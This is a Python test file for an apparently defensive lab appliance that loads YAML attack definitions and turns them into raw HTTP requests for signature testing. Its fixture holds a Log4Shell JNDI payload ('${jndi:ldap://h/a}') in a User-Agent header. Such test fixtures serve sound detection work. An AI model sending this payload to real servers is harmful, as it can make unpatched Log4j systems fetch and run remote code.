"""Attack definitions are read strictly and put on the wire byte for byte."""

from pathlib import Path

import pytest

from appliance.lab.definitions import AttackRequest, load_attacks
from appliance.model.faults import PolicyError

GOOD = """
cve: CVE-2021-44228
name: Log4Shell
product: Apache Log4j
signatures: log4shell.rules
requests:
  - {name: a, kind: exploit, port: 80, target: /x, headers: [[User-Agent, "${jndi:ldap://h/a}"]]}
  - {name: b, kind: near-miss, raw: "GET / HTTP/1.1\\r\\n\\r\\n"}
"""


def test_reads_a_good_file(tmp_path: Path) -> None:
    (tmp_path / "log4shell.yaml").write_text(GOOD)
    (file,) = load_attacks(tmp_path)
    assert (file.stem, file.attack.cve) == ("log4shell", "CVE-2021-44228")
    first, second = file.attack.requests
    assert first.wire("web") == b"GET /x HTTP/1.1\r\nHost: web\r\nUser-Agent: ${jndi:ldap://h/a}\r\n\r\n"
    assert (second.port, second.wire("web")) == (8080, b"GET / HTTP/1.1\r\n\r\n")


@pytest.mark.parametrize(
    ("wrong", "says"),
    [
        (GOOD.replace("kind: exploit", "kind: harmless"), r"Invalid enum value 'harmless'.*requests\[0\]"),
        (GOOD.replace("port: 80", "prot: 80"), r"unknown field `prot`.*requests\[0\]"),
        (GOOD.replace("name: b", "name: a"), "two requests are named 'a'"),
        (GOOD.replace("cve:", "cev:"), "cev|cve"),
        ("requests: [", "while parsing"),
        ("", "Expected `object`"),
        ("\0", "special characters"),
    ],
)
def test_refuses_by_file_and_place(tmp_path: Path, wrong: str, says: str) -> None:
    (tmp_path / "bad.yaml").write_text(wrong)
    with pytest.raises(PolicyError, match=says) as refusal:
        load_attacks(tmp_path)
    assert "bad.yaml" in str(refusal.value)


def test_a_body_gets_its_length() -> None:
    request = AttackRequest(name="a", kind="ordinary", method="POST", body="ä=1")
    assert request.wire("web").endswith(b"\r\nContent-Length: 4\r\n\r\n\xc3\xa4=1")


def test_chunks_are_as_long_as_asked_for_and_then_the_rest() -> None:
    request = AttackRequest(name="a", kind="ordinary", method="POST", body="abcdefg", chunks=(1, 3))
    assert request.wire("web").endswith(
        b"Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n3\r\nbcd\r\n3\r\nefg\r\n0\r\n\r\n"
    )


def test_a_host_of_its_own_replaces_ours() -> None:
    request = AttackRequest(name="a", kind="ordinary", headers=(("HOST", "other"),))
    assert request.wire("web") == b"GET / HTTP/1.1\r\nHOST: other\r\n\r\n"
